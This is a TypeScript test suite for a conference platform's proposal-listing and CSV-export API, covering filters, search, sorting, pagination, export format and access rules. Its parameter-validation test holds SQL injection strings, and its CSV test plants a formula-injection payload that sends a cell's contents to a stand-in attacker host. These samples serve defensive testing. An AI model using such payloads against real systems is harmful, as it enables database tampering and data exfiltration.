import { randomUUID } from 'node:crypto';
import { expectErrorBody, startTestApp, type TestApp } from '../support/test-app.js';
import {
  bearer,
  colloquium,
  countQueries,
  organiser,
  otherEvent,
  proposal,
  reception,
  reviews,
  speaker,
  submissionType,
  track,
  type Person,
} from './fixtures.js';
import { parseRfc4180 } from './rfc4180.js';

interface Item {
  id: string;
  state: string;
  titleFr: string | null;
  titleEn: string | null;
  type: { id: string; code: string; nameFr: string };
  track: { id: string; nameFr: string } | null;
  languages: string[];
  mainSpeaker: { userId: string | null; name: string; affiliation: string | null; email: string } | null;
  coSpeakerCount: number;
  submittedAt: string | null;
  reviewCount: number;
  meanScore: number | null;
}

describe('Organisers’ list and CSV export of an event’s proposals', () => {
  let t: TestApp;
  let admin: Person;
  let event: { id: string; slug: string };
  let comm: string;
  let poster: string;
  let governance: string;
  let territories: string;
  let helene: Person;
  let jean: Person;
  let zoe: Person;
  const p: Record<string, string> = {};
  const name: Record<string, string> = {};

  const list = async (query = '', eventId = event.id) => t.http.get(`/api/events/${eventId}/submissions${query}`).set(bearer(await admin.token()));
  const ids = async (query: string) => {
    const res = await list(query);
    if (res.status !== 200) throw new Error(`${query}: ${res.status} ${JSON.stringify(res.body)}`);
    return (res.body.items as Item[]).map((i) => name[i.id] ?? i.id);
  };
  const csv = async (query = '', eventId = event.id) =>
    t.http
      .get(`/api/events/${eventId}/submissions.csv${query}`)
      .set(bearer(await admin.token()))
      .buffer(true)
      .parse((res, done) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => done(null, Buffer.concat(chunks)));
      });

  beforeAll(async () => {
    t = await startTestApp();
    admin = await organiser(t, 'Admin Liste');
    event = await colloquium(t);
    comm = await submissionType(t, event.id, 'communication', 'Communication');
    poster = await submissionType(t, event.id, 'poster', 'Poster');
    governance = await track(t, event.id, 'Gouvernance numérique');
    territories = await track(t, event.id, 'Territoires');
    helene = await speaker(t, { firstName: 'Hélène', lastName: 'Dupré', affiliation: 'Université Paris 8', email: 'h.dupre@univ-test.fr' });
    jean = await speaker(t, { firstName: 'Jean', lastName: 'Martin', affiliation: 'CNRS' });
    zoe = await speaker(t, { firstName: 'Zoë', lastName: 'Lefèvre', affiliation: 'Sciences Po' });
    const [r1, r2, r3] = [await organiser(t), await organiser(t), await organiser(t)];

    p.P1 = await proposal(t, {
      eventId: event.id,
      typeId: comm,
      trackId: governance,
      titleFr: 'Économie des plateformes',
      abstractFr: 'Les données ouvertes et les villes.',
      submittedAt: '2011-11-01T10:00:00Z',
      main: helene,
      co: [jean, { email: 'invitee@test.local', status: 'invited' }, { email: 'declined@test.local', status: 'declined' }],
    });
    await reviews(t, p.P1, [
      [r1, 4],
      [r2, 5],
    ]);
    p.P2 = await proposal(t, {
      eventId: event.id,
      typeId: poster,
      trackId: territories,
      titleFr: 'abeilles urbaines et capteurs',
      abstractFr: 'Un réseau de 1000 capteurs, sans pourcentage.',
      submittedAt: '2011-11-03T10:00:00Z',
      main: jean,
    });
    await reviews(t, p.P2, [
      [r1, 2],
      [r2, 3],
      [r3, 3],
    ]);
    p.P3 = await proposal(t, {
      eventId: event.id,
      typeId: comm,
      state: 'accepted',
      titleFr: null,
      titleEn: 'Zoning with open data',
      abstractEn: 'Cities publish zoning rules.',
      submittedAt: '2011-11-02T10:00:00Z',
      main: zoe,
      co: [helene],
    });
    await reviews(t, p.P3, [[r1, 5]]);
    p.P4 = await proposal(t, {
      eventId: event.id,
      typeId: comm,
      trackId: governance,
      state: 'draft',
      titleFr: 'Écologie urbaine',
      abstractFr: 'Résumé en français.',
      titleEn: 'Urban ecology',
      abstractEn: 'English abstract.',
      submittedAt: null,
      createdAt: '2011-10-01T10:00:00Z',
      main: zoe,
    });
    p.P5 = await proposal(t, {
      eventId: event.id,
      typeId: poster,
      trackId: territories,
      state: 'rejected',
      titleFr: 'Zèbres et 100% de réussite_totale',
      abstractFr: 'Rien à signaler.',
      // a title in French without its abstract: French is not complete, English is
      titleEn: 'Zebras',
      abstractEn: 'Nothing to report.',
      submittedAt: '2011-11-04T10:00:00Z',
      main: jean,
    });
    for (const [k, v] of Object.entries(p)) name[v] = k;
    // a proposal of another event, signed by Hélène too: never listed here
    const other = await otherEvent(t);
    p.OTHER = await proposal(t, { eventId: other, typeId: await submissionType(t, other, 'communication', 'Communication'), titleFr: 'Économie ailleurs', main: helene });
    name[p.OTHER] = 'OTHER';
  });
  afterAll(async () => {
    await t?.close();
  });

  describe('list', () => {
    it('lists the event’s proposals only, with the documented shape and review statistics', async () => {
      const res = await list('?sort=date');
      expect(res.status).toBe(200);
      expect(res.body).toMatchObject({ page: 1, pageSize: 20, total: 5 });
      const items = res.body.items as Item[];
      expect(items.map((i) => name[i.id])).toEqual(['P1', 'P3', 'P2', 'P5', 'P4']);
      const p1 = items.find((i) => i.id === p.P1) as Item;
      expect(p1).toEqual({
        id: p.P1,
        state: 'submitted',
        titleFr: 'Économie des plateformes',
        titleEn: null,
        type: { id: comm, code: 'communication', nameFr: 'Communication', nameEn: 'Communication' },
        track: { id: governance, nameFr: 'Gouvernance numérique', nameEn: null },
        languages: ['fr'],
        mainSpeaker: { userId: helene.id, name: 'Hélène Dupré', affiliation: 'Université Paris 8', email: helene.email },
        // Jean (accepted) and the invitee; the declined co-speaker is not counted
        coSpeakerCount: 2,
        coSpeakers: [
          { userId: jean.id, name: 'Jean Martin', status: 'accepted' },
          { userId: null, name: 'invitee@test.local', status: 'invited' },
        ],
        submittedAt: '2011-11-01T10:00:00.000Z',
        createdAt: expect.any(String),
        reviewCount: 2,
        meanScore: 4.5,
      });
      const byName = Object.fromEntries(items.map((i) => [name[i.id], i]));
      expect(byName.P2).toMatchObject({ reviewCount: 3, meanScore: 2.67, track: { nameFr: 'Territoires' }, coSpeakerCount: 0 });
      expect(byName.P3).toMatchObject({ reviewCount: 1, meanScore: 5, track: null, languages: ['en'], coSpeakerCount: 1 });
      expect(byName.P4).toMatchObject({ reviewCount: 0, meanScore: null, submittedAt: null, languages: ['fr', 'en'] });
      expect(byName.P5.languages).toEqual(['fr', 'en']);
      // reviewers' identities are not part of the list
      expect(JSON.stringify(res.body)).not.toMatch(/orga-|reviewer/);
    });

    it('filters by state: repeated, comma-separated, or both', async () => {
      expect(await ids('?state=submitted')).toEqual(['P1', 'P2']);
      expect(await ids('?state=submitted&state=accepted')).toEqual(['P1', 'P3', 'P2']);
      expect(await ids('?state=submitted,accepted')).toEqual(['P1', 'P3', 'P2']);
      expect(await ids('?state=accepted,draft&state=rejected')).toEqual(['P3', 'P5', 'P4']);
      expect(await ids('?state=withdrawn')).toEqual([]);
    });

    it('filters by type and by track', async () => {
      expect(await ids(`?typeId=${poster}`)).toEqual(['P2', 'P5']);
      expect(await ids(`?trackId=${governance}`)).toEqual(['P1', 'P4']);
      expect(await ids(`?typeId=${comm}&trackId=${governance}&state=draft`)).toEqual(['P4']);
      expect(await ids(`?typeId=${randomUUID()}`)).toEqual([]);
    });

    it('filters by complete language', async () => {
      expect(await ids('?language=en')).toEqual(['P3', 'P5', 'P4']);
      expect(await ids('?language=fr')).toEqual(['P1', 'P2', 'P5', 'P4']);
    });

    it('finds signers whatever the accents and case ("helene dupre" finds "Hélène Dupré")', async () => {
      // main speaker of P1, co-speaker of P3
      expect(await ids('?speaker=helene%20dupre')).toEqual(['P1', 'P3']);
      expect(await ids('?speaker=DUPR%C3%89')).toEqual(['P1', 'P3']);
      expect(await ids('?speaker=dupre%20helene')).toEqual(['P1', 'P3']);
      expect(await ids('?speaker=zoe%20lefevre')).toEqual(['P3', 'P4']);
      expect(await ids('?speaker=univ-test.fr')).toEqual(['P1', 'P3']);
      // an invited co-speaker without account is found by email
      expect(await ids('?speaker=invitee')).toEqual(['P1']);
      // a declined one no longer signs
      expect(await ids('?speaker=declined')).toEqual([]);
      // every word must belong to the same signer: Hélène and Jean sign P1 together, but no one is "Hélène Martin"
      expect(await ids('?speaker=helene%20martin')).toEqual([]);
      expect(await ids('?speaker=%25')).toEqual([]);
      expect(await ids('?speaker=_')).toEqual([]);
    });

    it('searches titles and abstracts whatever the accents, with LIKE wildcards taken literally', async () => {
      expect(await ids('?q=economie')).toEqual(['P1']);
      expect(await ids('?q=%C3%89CONOMIE')).toEqual(['P1']);
      expect(await ids('?q=donnees%20villes')).toEqual(['P1']);
      expect(await ids('?q=open%20data')).toEqual(['P3']);
      expect(await ids('?q=urbain')).toEqual(['P2', 'P4']);
      // 100% must not match "1000"; _ must not match any character
      expect(await ids('?q=100%25')).toEqual(['P5']);
      expect(await ids('?q=_')).toEqual(['P5']);
      expect(await ids('?q=%25')).toEqual(['P5']);
      expect(await ids('?q=%5C')).toEqual([]);
      // a word split across the title and the abstract does not match
      expect(await ids('?q=plateformesLes')).toEqual([]);
      expect(await ids('?q=economie&speaker=jean')).toEqual(['P1']);
      expect(await ids('?q=economie&state=draft')).toEqual([]);
    });

    it('sorts by mean score with unreviewed proposals last in both directions', async () => {
      const score = await ids('?sort=score');
      expect(score.slice(0, 3)).toEqual(['P2', 'P1', 'P3']);
      expect(new Set(score.slice(3))).toEqual(new Set(['P4', 'P5']));
      const desc = await ids('?sort=score&order=desc');
      expect(desc.slice(0, 3)).toEqual(['P3', 'P1', 'P2']);
      expect(new Set(desc.slice(3))).toEqual(new Set(['P4', 'P5']));
    });

    it('sorts by date (submitted, then created; drafts last) and by title ignoring accents and case', async () => {
      expect(await ids('?sort=date&order=desc')).toEqual(['P5', 'P2', 'P3', 'P1', 'P4']);
      // abeilles, Écologie, Économie, Zèbres, Zoning (English title when there is no French one)
      expect(await ids('?sort=title')).toEqual(['P2', 'P4', 'P1', 'P5', 'P3']);
      expect(await ids('?sort=title&order=desc')).toEqual(['P3', 'P5', 'P1', 'P4', 'P2']);
      // the default sort is the date
      expect(await ids('')).toEqual(['P1', 'P3', 'P2', 'P5', 'P4']);
    });

    it('paginates with a stable total', async () => {
      const pages = [];
      for (const page of [1, 2, 3, 4]) {
        const res = await list(`?sort=date&pageSize=2&page=${page}`);
        expect(res.status).toBe(200);
        expect(res.body).toMatchObject({ page, pageSize: 2, total: 5 });
        pages.push((res.body.items as Item[]).map((i) => name[i.id]));
      }
      // the last page past the end still knows the total (counted apart)
      expect(pages).toEqual([['P1', 'P3'], ['P2', 'P5'], ['P4'], []]);
      const filtered = await list('?state=submitted&pageSize=1&page=2');
      expect(filtered.body).toMatchObject({ total: 2, page: 2 });
      expect(filtered.body.items.map((i: Item) => name[i.id])).toEqual(['P2']);
    });

    it('costs the same number of SQL queries at pageSize 5 and 50 (no N+1)', async () => {
      const bulkEvent = await otherEvent(t);
      const type = await submissionType(t, bulkEvent, 'communication', 'Communication');
      const reviewers = [await organiser(t), await organiser(t), await organiser(t)];
      // 60 proposals, each with a main speaker, a co-speaker and three reviews
      await t.booted.dataSource.query(
        `WITH s AS (
           INSERT INTO submissions (event_id, state, type_id, title_fr, abstract_fr, submitted_at)
           SELECT $1, 'submitted', $2, 'Proposition ' || g, 'Résumé ' || g, now() - g * interval '1 hour' FROM generate_series(1, 60) g
           RETURNING id
         ), m AS (
           INSERT INTO submission_speakers (submission_id, user_id, email, role, status, position)
           SELECT s.id, $3::uuid, $4, 'main', 'accepted', 0 FROM s
         ), c AS (
           INSERT INTO submission_speakers (submission_id, user_id, email, role, status, position)
           SELECT s.id, $5::uuid, $6, 'co', 'accepted', 1 FROM s
         )
         INSERT INTO reviews (submission_id, reviewer_id, score)
         SELECT s.id, r.id, 1 + (abs(hashtext(s.id::text || r.id::text)) % 5) FROM s CROSS JOIN unnest($7::uuid[]) AS r(id)`,
        [bulkEvent, type, helene.id, helene.email, jean.id, jean.email, reviewers.map((r) => r.id)],
      );
      await admin.token();
      // the fewest of three tries: a background task of another module (the mail outbox polls) may
      // send a statement while a request runs, never three times in a row
      const measure = async (query: string) => {
        let best = { items: 0, queries: Infinity };
        for (let i = 0; i < 3; i += 1) {
          const { result, queries } = await countQueries(t, () => list(query, bulkEvent));
          expect(result.status).toBe(200);
          if (queries < best.queries) best = { items: result.body.items.length as number, queries };
        }
        return best;
      };
      for (const filters of ['sort=score', 'sort=title&state=submitted', 'speaker=helene%20dupre&q=proposition&sort=date']) {
        const small = await measure(`?${filters}&pageSize=5`);
        const large = await measure(`?${filters}&pageSize=50`);
        expect([small.items, large.items]).toEqual([5, 50]);
        expect(large.queries).toBe(small.queries);
        // the token and its account (auth guard), the event, the page (with the total in it)
        expect(large.queries).toBeLessThanOrEqual(4);
      }
      const page = await list('?sort=score&order=desc&pageSize=100', bulkEvent);
      expect(page.body.total).toBe(60);
      const items = page.body.items as Item[];
      expect(items.every((i) => i.reviewCount === 3 && i.coSpeakerCount === 1 && i.mainSpeaker?.name === 'Hélène Dupré')).toBe(true);
      const means = items.map((i) => i.meanScore as number);
      expect(means).toEqual([...means].sort((a, b) => b - a));
      expect(means.every((m) => Math.round(m * 100) / 100 === m)).toBe(true);
    });

    it('answers 404 for an unknown event and 400 for hostile or unknown parameters, never 500', async () => {
      const unknown = await list('', randomUUID());
      expect(unknown.status).toBe(404);
      expectErrorBody(unknown.body, 404, 'NOT_FOUND');
      const bad = [
        ['event id', `/api/events/not-a-uuid/submissions`],
        ['state', '?state=bogus'],
        ['state among good ones', '?state=submitted,bogus'],
        ['empty state', '?state='],
        ['typeId', '?typeId=not-a-uuid'],
        ['typeId as an array', `?typeId=${comm}&typeId=${poster}`],
        ['trackId', "?trackId=1'%20OR%201=1"],
        ['language', '?language=de'],
        ['sort', '?sort=popularity'],
        ['sort injection', '?sort=score;DROP%20TABLE%20reviews'],
        ['order', '?order=sideways'],
        ['unknown filter', '?author=helene'],
        ['pageSize 1000', '?pageSize=1000'],
        ['pageSize 0', '?pageSize=0'],
        ['page 0', '?page=0'],
        ['page not a number', '?page=abc'],
        ['q of 201 characters', `?q=${'a'.repeat(201)}`],
        ['q of 1,000 accented characters', `?q=${encodeURIComponent('é'.repeat(1_000))}`],
        ['q with a NUL', '?q=a%00b'],
        ['speaker with a line break', '?speaker=a%0Ab'],
        ['q as an object', '?q[x]=1'],
      ] as const;
      const failures: string[] = [];
      for (const [label, suffix] of bad) {
        const url = suffix.startsWith('/') ? suffix : `/api/events/${event.id}/submissions${suffix}`;
        const res = await t.http.get(url).set(bearer(await admin.token()));
        if (res.status !== 400) failures.push(`${label}: ${res.status}`);
        else expectErrorBody(res.body, 400);
      }
      expect(failures).toEqual([]);
      // a broken percent-encoding is read literally by the query parser: a search like any other
      expect((await list('?q=%E0%A4%A')).status).toBe(200);
    });

    it('refuses a 100,000-character search with a 4xx, never a 500', async () => {
      for (const param of ['q', 'speaker']) {
        const res = await list(`?${param}=${'a'.repeat(100_000)}`);
        // Node refuses a request line this long (431) before the application sees it; shorter
        // ones reach validation (400 above)
        expect(res.status).toBeGreaterThanOrEqual(400);
        expect(res.status).toBeLessThan(500);
      }
      const justUnder = await list(`?q=${'a'.repeat(15_000)}`);
      expect(justUnder.status).toBe(400);
      expectErrorBody(justUnder.body, 400, 'VALIDATION_FAILED');
    });
  });

  describe('CSV export', () => {
    it('sends every matching proposal as UTF-8 CSV with a BOM, in the list’s order', async () => {
      const res = await csv('?sort=title');
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toBe(`attachment; filename="propositions-${event.slug}.csv"`);
      const body = res.body as Buffer;
      expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const text = body.toString('utf8');
      expect(text.endsWith('\r\n')).toBe(true);
      const records = parseRfc4180(text.slice(1));
      expect(records[0]).toEqual([
        'Titre',
        'Résumé',
        'Type',
        'Thème',
        'État',
        'Orateur principal',
        'Affiliation',
        'Co-orateurs',
        'Note moyenne',
        "Nombre d'évaluations",
        'Soumis le',
      ]);
      expect(records.slice(1).map((r) => r[0])).toEqual([
        'abeilles urbaines et capteurs',
        'Écologie urbaine',
        'Économie des plateformes',
        'Zèbres et 100% de réussite_totale',
        'Zoning with open data',
      ]);
      const p1 = records.find((r) => r[0] === 'Économie des plateformes') as string[];
      // Paris is UTC+1 in November
      expect(p1).toEqual([
        'Économie des plateformes',
        'Les données ouvertes et les villes.',
        'Communication',
        'Gouvernance numérique',
        'soumise',
        'Hélène Dupré',
        'Université Paris 8',
        'Jean Martin, invitee@test.local',
        '4,50',
        '2',
        '2011-11-01 11:00',
      ]);
      const draft = records.find((r) => r[0] === 'Écologie urbaine') as string[];
      expect(draft.slice(4)).toEqual(['brouillon', 'Zoë Lefèvre', 'Sciences Po', '', '', '0', '']);
    });

    it('applies the list’s filters', async () => {
      const records = parseRfc4180(((await csv('?state=submitted&sort=score&order=desc')).body as Buffer).toString('utf8').slice(1));
      expect(records.slice(1).map((r) => [r[0], r[8]])).toEqual([
        ['Économie des plateformes', '4,50'],
        ['abeilles urbaines et capteurs', '2,67'],
      ]);
      const bySpeaker = parseRfc4180(((await csv('?speaker=helene%20dupre&sort=date')).body as Buffer).toString('utf8').slice(1));
      expect(bySpeaker.slice(1).map((r) => r[0])).toEqual(['Économie des plateformes', 'Zoning with open data']);
      const none = parseRfc4180(((await csv('?q=introuvable')).body as Buffer).toString('utf8').slice(1));
      expect(none).toHaveLength(1);
    });

    it('keeps quotes, commas, line breaks and accents, defuses formulas, and writes dates in the event’s zone', async () => {
      const rows: { id: string }[] = await t.booted.dataSource.query(
        `INSERT INTO events (slug, kind, name_fr, starts_at, ends_at, time_zone) VALUES ('mtl2012', 'conference', 'Montréal', '2012-05-01T12:00:00Z', '2012-05-02T22:00:00Z', 'America/Montreal') RETURNING id`,
      );
      const mtl = rows[0].id;
      const type = await submissionType(t, mtl, 'table-ronde', '=Table ronde');
      const tricky = 'Le « numérique », les "villes"\net la ligne suivante\r\nfin, enfin';
      const evil = await speaker(t, { firstName: '@Ève', lastName: 'Ñúñez-Øster', affiliation: '+33 1 44 96 40 00' });
      await proposal(t, { eventId: mtl, typeId: type, titleFr: tricky, abstractFr: '-1+1 fait zéro', submittedAt: '2012-01-15T03:30:00Z', main: evil });
      await proposal(t, { eventId: mtl, typeId: type, titleFr: '=HYPERLINK("http://evil.example/?x="&A1,"clic")', submittedAt: '2012-01-16T03:30:00Z', main: zoe });
      const res = await csv('?sort=date', mtl);
      expect(res.status).toBe(200);
      expect(res.headers['content-disposition']).toBe('attachment; filename="propositions-mtl2012.csv"');
      const records = parseRfc4180((res.body as Buffer).toString('utf8').slice(1));
      expect(records).toHaveLength(3);
      expect(records[1]).toEqual([
        tricky,
        "'-1+1 fait zéro",
        "'=Table ronde",
        '',
        'soumise',
        "'@Ève Ñúñez-Øster",
        "'+33 1 44 96 40 00",
        '',
        '',
        '0',
        // 03:30 UTC is 22:30 the day before in Montréal
        '2012-01-14 22:30',
      ]);
      expect(records[2][0]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"clic")`);
      // no cell of the file starts with a formula character
      expect(records.flat().filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
    });

    it('is not captured by another route, and captures none', async () => {
      const json = await list();
      expect(json.headers['content-type']).toMatch(/^application\/json/);
      const file = await csv();
      expect(file.headers['content-type']).toBe('text/csv; charset=utf-8');
      const ev = await t.http.get(`/api/events/${event.id}`);
      expect(ev.status).toBe(200);
      expect(ev.body.slug).toBe(event.slug);
      for (const path of ['submissions.json', 'submissions.', 'submissionsXcsv', 'submissions.csv/x', 'submissions/csv']) {
        const res = await t.http.get(`/api/events/${event.id}/${path}`).set(bearer(await admin.token()));
        expect([path, res.status]).toEqual([path, 404]);
      }
      // Express matches paths without regard to case: .CSV is the same export
      expect((await t.http.get(`/api/events/${event.id}/submissions.CSV`).set(bearer(await admin.token()))).headers['content-type']).toBe(
        'text/csv; charset=utf-8',
      );
      const badId = await t.http.get('/api/events/vtn2012/submissions.csv').set(bearer(await admin.token()));
      expect(badId.status).toBe(400);
      const unknown = await csv('', randomUUID());
      expect(unknown.status).toBe(404);
      // pages belong to the list, not the export
      expect((await csv('?pageSize=10')).status).toBe(400);
      expect((await csv('?state=bogus')).status).toBe(400);
    });

    it('refuses an export of more than 20,000 proposals with 422', async () => {
      const big = await otherEvent(t);
      const type = await submissionType(t, big, 'poster', 'Poster');
      await t.booted.dataSource.query(
        `INSERT INTO submissions (event_id, state, type_id, title_fr, abstract_fr, submitted_at)
         SELECT $1, 'submitted', $2, 'P' || g, 'R', now() FROM generate_series(1, 20001) g`,
        [big, type],
      );
      const res = await t.http.get(`/api/events/${big}/submissions.csv`).set(bearer(await admin.token()));
      expect(res.status).toBe(422);
      expectErrorBody(res.body, 422, 'EXPORT_TOO_LARGE');
      const narrowed = await csv('?q=P2000', big);
      expect(narrowed.status).toBe(200);
      // P2000 and P20000, P20001 … P20009 do not exist past 20,001: P2000, P20000, P20001
      expect(parseRfc4180((narrowed.body as Buffer).toString('utf8').slice(1))).toHaveLength(4);
    });
  });

  describe('access', () => {
    it('is closed to anonymous callers (401), speakers and reception (403)', async () => {
      const desk = await reception(t);
      const paths = [`/api/events/${event.id}/submissions`, `/api/events/${event.id}/submissions.csv`];
      for (const path of paths) {
        const anonymous = await t.http.get(path);
        expect(anonymous.status).toBe(401);
        expectErrorBody(anonymous.body, 401);
        for (const who of [helene, desk]) {
          const res = await t.http.get(path).set(bearer(await who.token()));
          expect(res.status).toBe(403);
          expectErrorBody(res.body, 403);
          expect(res.text).not.toContain('Économie');
        }
      }
    });
  });
});
